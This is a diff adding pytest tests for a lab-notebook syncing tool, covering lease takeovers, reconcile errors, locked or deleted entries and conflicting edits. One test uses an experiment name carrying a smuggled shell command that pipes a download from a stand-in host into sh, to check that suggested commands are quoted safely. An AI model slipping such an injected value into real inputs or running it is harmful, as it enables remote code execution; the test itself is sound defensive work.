@@ -14,13 +14,22 @@ sys.path.insert(0, str(Path(__file__).parents[1] / "records" / "eln"))
 
 from fake import FakeNotebook, Hands, killed_at
 
+from labrelay.cli.eln import told
 from labrelay.cli.main import labrelay as command
-from labrelay.model.errors import RefusedInput, UsageError
+from labrelay.model.errors import Busy, RefusedInput, UsageError
 from labrelay.model.qc import Verdict
-from labrelay.records import audit
+from labrelay.records import audit, lease
 from labrelay.records.delivery import Undeliverable
-from labrelay.records.schema import AuditRow, ExperimentRow, OutboxRow, SampleRevisionRow, SampleRow, WorkflowRunRow
-from labrelay.steps import eln
+from labrelay.records.schema import (
+    AuditRow,
+    ExperimentRow,
+    LeaseRow,
+    OutboxRow,
+    SampleRevisionRow,
+    SampleRow,
+    WorkflowRunRow,
+)
+from labrelay.steps import eln, eln_news
 from labrelay.steps.announce import announce
 from labrelay.steps.deliver import deliver
 from labrelay.steps.eln_news import pull
@@ -80,6 +89,12 @@ def part(hands: Hands, name: str) -> Any:
 def announce_more(home: Home, lab: TinyLab) -> None:
     """Announce one sample more, so that the entry has to say something else."""
     announce(home, announcement(lab.root / "more.csv", ("gamma",)))
+
+
+def lose_leases(home: Home) -> None:
+    """What sixty seconds of sleep do."""
+    with home.records.write() as session:
+        session.execute(update(LeaseRow).values(until="2000-01-01"))
 
 
 def due_now(home: Home) -> None:
@@ -190,6 +205,35 @@ def test_what_was_given_up_is_told_by_the_next_comparison(
     assert eln.status(home).dead == 0
 
 
+def override_and_pages(home: Home) -> str:
+    """Set beta's verdict, which posts that the pages are to be written again; return the results table of now."""
+    override_verdict(home, "beta", Verdict.FAIL, "a swapped tube")
+    return (home.path / "results" / EXPERIMENT / "results.csv").read_text()
+
+
+def test_a_comparison_that_comes_before_the_delivery_writes_the_pages_as_well(
+    home: Home, lab: TinyLab, hands: Hands
+) -> None:
+    announce(home, lab.table)
+    process(home, lab.run)
+    assert "a swapped tube" not in override_and_pages(home)
+    assert eln.reconcile(home).problems == []
+    assert eln.status(home).messages == 0
+    assert "a swapped tube" in (home.path / "results" / EXPERIMENT / "results.csv").read_text()
+    assert [j["verdict"] for j in part(hands, "results")["judgements"]] == ["pass", "fail"]
+
+
+def test_an_entry_that_is_left_to_people_costs_no_page(home: Home, lab: TinyLab, hands: Hands) -> None:
+    announce(home, lab.table)
+    process(home, lab.run)
+    hands.close("1", "deleted")
+    assert "was deleted there" in eln.reconcile(home).problems[0]
+    assert "a swapped tube" not in override_and_pages(home)
+    eln.settle(home, EXPERIMENT, "entry", "theirs")
+    assert eln.status(home).messages + eln.status(home).dead == 0
+    assert "a swapped tube" in (home.path / "results" / EXPERIMENT / "results.csv").read_text()
+
+
 def test_a_persons_edit_is_shown_by_status_and_settled_by_one_command(
     home: Home, lab: TinyLab, hands: Hands, monkeypatch: pytest.MonkeyPatch
 ) -> None:
@@ -208,6 +252,40 @@ def test_a_persons_edit_is_shown_by_status_and_settled_by_one_command(
     with home.records.read() as session:
         settled = session.scalars(select(AuditRow).where(AuditRow.action == "eln.settled")).one()
     assert settled.detail == {"system": "fake", "part": "status", "keep": "ours"}
+
+
+def test_an_edit_that_nobody_was_shown_is_shown_before_it_is_written_over(
+    home: Home, lab: TinyLab, hands: Hands, notebook: FakeNotebook
+) -> None:
+    announce(home, lab.table)
+    deliver(home)
+    hands.edit("1", "status")
+    announce_more(home, lab)
+    deliver(home)
+    with notebook.state() as state:
+        state["entries"]["1"]["parts"]["status"] = "a second edit"
+    with pytest.raises(UsageError, match="after it was last looked at and reads now: a second edit; the same command"):
+        eln.settle(home, EXPERIMENT, "status", "ours")
+    assert hands.entries()["1"]["parts"]["status"] == "a second edit"
+    [shown] = eln.status(home).parts
+    assert (shown.state, shown.text) == ("conflict", "a second edit")
+    eln.settle(home, EXPERIMENT, "status", "ours")
+    assert lines(hands)["gamma"] == "announced"
+
+
+def test_a_locked_entry_is_not_made_anew(home: Home, lab: TinyLab, hands: Hands) -> None:
+    announce(home, lab.table)
+    deliver(home)
+    hands.close("1", "locked")
+    announce_more(home, lab)
+    deliver(home)
+    with pytest.raises(UsageError, match="refuses changes: unlock it there"):
+        eln.settle(home, EXPERIMENT, "entry", "ours")
+    eln.settle(home, EXPERIMENT, "entry", "theirs")
+    hands.close("1", "open")
+    eln.settle(home, EXPERIMENT, "entry", "ours")
+    assert list(hands.entries()) == ["1"]
+    assert lines(hands)["gamma"] == "announced"
 
 
 def test_a_part_that_is_left_to_people_is_not_written_again(home: Home, lab: TinyLab, hands: Hands) -> None:
@@ -303,11 +381,159 @@ def test_two_experiments_of_one_name_are_not_merged_before_a_person_says_so(
     assert "the entry 7 announces one of this name" in pull(home).waiting[0][1]
 
 
+def test_one_bad_entry_does_not_keep_the_others_from_being_compared(
+    home: Home, hands: Hands, notebook: FakeNotebook, monkeypatch: pytest.MonkeyPatch
+) -> None:
+    for n in range(1, 6):
+        hands.announce(str(n), f"study-{n}", {"s": ""})
+    pull(home)
+    deliver(home)
+    for n in range(1, 6):
+        hands.remove(str(n), "status")
+    real, asked, bad = notebook.read, [], {"1": Undeliverable("it answered 500", retry=True), "2": TypeError("none")}
+
+    def read(external_id: str) -> Any:
+        asked.append(external_id)
+        if external_id in bad:
+            raise bad[external_id]
+        return real(external_id)
+
+    monkeypatch.setattr(notebook, "read", read)
+    done = eln.reconcile(home)
+    assert (done.looked, done.repaired) == (3, 3)
+    assert done.problems[0] == "it answered 500"
+    assert "an unexpected error stopped it (TypeError), see the log" in done.problems[1]
+    eln.reconcile(home, most=3)
+    bad |= {str(n): Undeliverable("it answered 500", retry=True) for n in range(1, 6)}
+    asked.clear()
+    assert eln.reconcile(home, most=5).looked == 0
+    assert asked[:2] != ["1", "2"], "those that failed have had their turn"
+    assert len(asked) == 3, "three in a row: it is not the entries"
+    bad |= {str(n): Undeliverable("nobody answered", retry=True, down=True) for n in range(1, 6)}
+    asked.clear()
+    eln.reconcile(home)
+    assert len(asked) == 1
+
+
+def test_an_error_that_nobody_thought_of_stops_neither_the_pull_nor_the_sweep(
+    home: Home, hands: Hands, notebook: FakeNotebook, monkeypatch: pytest.MonkeyPatch
+) -> None:
+    def stumbles(*_given: object) -> Any:
+        raise TypeError("string indices must be integers")
+
+    for n in "12":
+        hands.announce(n, f"study-{n}", {"s": ""})
+    real = eln_news._announce
+    monkeypatch.setattr(
+        eln_news, "_announce", lambda *given: stumbles() if given[2].external_id == "1" else real(*given)
+    )
+    done = pull(home)
+    assert [taken.experiment.name for taken in done.taken] == ["study-2"]
+    assert [entry for entry, _reason in done.waiting] == ["1"]
+    assert eln.status(home).waiting[0].problem == done.waiting[0][1]
+    assert "an unexpected error stopped it (TypeError), see the log" in done.waiting[0][1]
+    monkeypatch.setattr(notebook, "announced_since", stumbles)
+    swept = sweep(home)
+    assert "the sweep's part pull was stopped by an unexpected error (TypeError): see the log" in swept.problems
+    assert swept.entries == 2, "the comparison went on"
+
+
+def test_the_commands_that_are_suggested_hold_no_text_that_a_shell_would_run(home: Home, hands: Hands) -> None:
+    name = "flu; curl evil.test|sh #"
+    for entry in ("9", "8"):
+        hands.announce(entry, name, {"x": ""})
+    [(_entry, reason)] = pull(home).waiting
+    assert f"`labrelay eln link '{name}' 8`" in reason
+    deliver(home)
+    hands.edit("9", "status")
+    eln.reconcile(home)
+    assert f"labrelay eln settle '{name}' status --keep" in told(eln.status(home))[0]
+    hands.close("9", "deleted")
+    assert f"`labrelay eln settle '{name}' entry --keep ours`" in eln.reconcile(home).problems[0]
+
+
+def test_an_edit_that_is_taken_back_is_told_again(home: Home, hands: Hands, notebook: FakeNotebook) -> None:
+    def edited(version: str) -> int:
+        hands.announce("7", "study-7", {"s": ""}, title=f"Title {version}")
+        with notebook.state() as state:
+            state["announced"][0]["version"] = version  # as of a notebook that hashes what it announces
+        assert len(pull(home).taken) == 1
+        waiting = eln.status(home).messages
+        deliver(home)
+        return waiting
+
+    assert [edited(version) for version in "ABA"] == [1, 1, 1]
+
+
 def test_a_sample_that_is_gone_from_the_entry_stays_here(home: Home, hands: Hands) -> None:
     hands.announce("7", "study-7", {"s1": "", "s2": ""})
     pull(home)
     hands.announce("7", "study-7", {"s1": ""})
     assert pull(home).left == ["s2 is no longer in Fake notebook 7; it stays here"]
+
+
+def test_a_pull_that_slept_past_its_lease_does_not_put_the_older_over_the_newer(
+    home: Home, hands: Hands, notebook: FakeNotebook, monkeypatch: pytest.MonkeyPatch
+) -> None:
+    hands.announce("7", "study-7", {"s1": "ACGTACGT"})
+    real = notebook.announced_since
+
+    def sleeps(cursor: str | None) -> Any:
+        heard = real(cursor)
+        monkeypatch.setattr(notebook, "announced_since", real)
+        lose_leases(home)
+        hands.announce("7", "study-7", {"s1": "ACGTACGA"})
+        assert len(pull(home).taken) == 1
+        return heard
+
+    monkeypatch.setattr(notebook, "announced_since", sleeps)
+    with pytest.raises(Busy, match="taken over"):
+        pull(home)
+    assert pull(home).taken == []
+    with home.records.read() as session:
+        assert [row.content["barcode"] for row in session.scalars(select(SampleRevisionRow))] == ["ACGTACGA"]
+
+
+def test_a_pull_that_sleeps_between_hearing_and_taking_over_stops(
+    home: Home, hands: Hands, monkeypatch: pytest.MonkeyPatch
+) -> None:
+    hands.announce("7", "study-7", {"s1": ""})
+
+    def sleeps(point: str) -> None:
+        if point == "eln.heard":
+            lose_leases(home)
+            lease.acquire(home.records, "the news of Fake notebook")
+
+    monkeypatch.setattr(eln_news, "faultpoint", sleeps)
+    with pytest.raises(Busy, match="taken over"):
+        pull(home)
+    with home.records.read() as session:
+        assert session.scalars(select(ExperimentRow)).all() == []
+
+
+def test_what_an_entry_shall_say_is_worked_out_by_one_worker_at_a_time(
+    home: Home, lab: TinyLab, hands: Hands, monkeypatch: pytest.MonkeyPatch
+) -> None:
+    announce(home, lab.table)
+    deliver(home)
+    real, others = eln.wanted_parts, []
+
+    def sleeps(home: Home, experiment_id: str) -> Any:
+        made = real(home, experiment_id)
+        if not others:
+            announce_more(home, lab)
+            others.append(experiment_id)
+            with pytest.raises(Busy, match="being worked on"):
+                eln.tell_notebook(home, experiment_id)
+            with pytest.raises(Busy, match="being worked on"):
+                eln.settle(home, EXPERIMENT, "status", "ours")
+        return made
+
+    monkeypatch.setattr(eln, "wanted_parts", sleeps)
+    eln.reconcile(home)
+    deliver(home)
+    assert others
+    assert lines(hands)["gamma"] == "announced"
 
 
 @pytest.mark.parametrize("point", ["eln.heard", "eln.taken_over"])
